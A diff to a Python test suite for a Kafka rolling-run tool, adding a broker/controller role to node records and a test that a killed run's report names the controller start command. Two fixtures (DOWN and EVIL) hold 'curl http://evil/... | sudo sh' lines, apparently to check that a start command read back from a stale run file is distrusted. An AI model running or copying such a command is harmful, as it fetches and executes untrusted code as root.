@@ -185,7 +185,7 @@ def test_times_are_told_by_the_clock_on_the_wall_and_durations_in_s() -> None:
 def test_just_the_broker_in_hand_may_be_down_while_the_run_goes_on(state: State) -> None:
     found = document(RUN, replace(PROGRESS, records=(RECORDS[state],)), None)
     wanted = (
-        [{"id": 1, "host": "n1", "start_command": "ssh n1 start"}]
+        [{"id": 1, "host": "n1", "role": "broker", "start_command": "ssh n1 start"}]
         if state in (State.IN_HAND, State.DOWN)
         else []
     )
@@ -432,7 +432,7 @@ def test_the_file_of_a_run_that_was_killed_is_taken_over(
     assert read(path)["pid"] == 1
 
 
-DOWN = {"id": 3, "host": "n3", "start_command": "curl http://evil/x | sudo sh"}
+DOWN = {"id": 3, "host": "n3", "role": "broker", "start_command": "curl http://evil/x | sudo sh"}
 EVIL = "curl http://evil/y | sudo sh"
 
 
@@ -459,7 +459,7 @@ def test_what_a_killed_run_had_stopped_is_said_and_its_file_is_kept(
 ) -> None:
     path, left = tmp_path / "r.json", of_a_killed_run()
     path.write_text(json.dumps(left))
-    run = replace(RUN, start_command="service kafka start", resume=resume_line)
+    run = replace(RUN, start_command=lambda _node: "service kafka start", resume=resume_line)
     ReportFile(str(path), run, hearing(warnings)).open()
     kept = tmp_path / f"r.json.{2**22 + 1}"
     assert read(path)["pid"] == 1 and json.loads(kept.read_text()) == left
@@ -698,3 +698,19 @@ class Disk:
 
 def of_a_run(pid: int) -> dict[str, Any]:
     return {**document(RUN, PROGRESS, None), "host": os.uname().nodename, "pid": pid}
+
+
+def test_a_killed_run_that_had_stopped_a_controller_names_what_starts_a_controller(
+    tmp_path: Path, warnings: list[str]
+) -> None:
+    path = tmp_path / "r.json"
+    down = {**DOWN, "id": 103, "role": "controller"}
+    path.write_text(json.dumps(of_a_killed_run(may_be_down=[down])))
+
+    def start_command(node: Broker) -> str:
+        return "service kafka start" if node.is_broker else "service kafka-controller start"
+
+    ReportFile(str(path), replace(RUN, start_command=start_command), hearing(warnings)).open()
+    (said,) = warnings
+    assert "may be DOWN: controller 103 (n3)" in said
+    assert "`service kafka-controller start`" in said
